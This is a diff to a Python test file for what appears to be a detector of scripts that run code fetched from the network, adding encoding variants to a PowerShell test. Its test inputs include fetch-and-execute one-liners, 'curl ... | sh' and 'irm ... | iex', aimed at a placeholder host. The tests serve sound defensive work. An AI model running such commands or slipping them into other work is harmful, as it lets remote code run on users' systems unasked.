@@ -94,8 +94,9 @@ def test_a_shebang_counts_under_any_name():
     assert findings(read("#!/bin/sh\ncurl https://a.example/x | sh", "weights.bin")) >= {("shell-runs-fetched", "high")}
 
 
-def test_what_windows_writes_in_utf16_is_read():
-    outcome = read("irm https://a.example/x | iex".encode("utf-16"), "a.ps1")
+@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "latin-1"])
+def test_what_windows_writes_is_read(encoding):
+    outcome = read("# caf\xe9\nirm https://a.example/x | iex".encode(encoding), "a.ps1")
     assert findings(outcome, "a.ps1") == {("shell-runs-fetched", "high")}
 
 
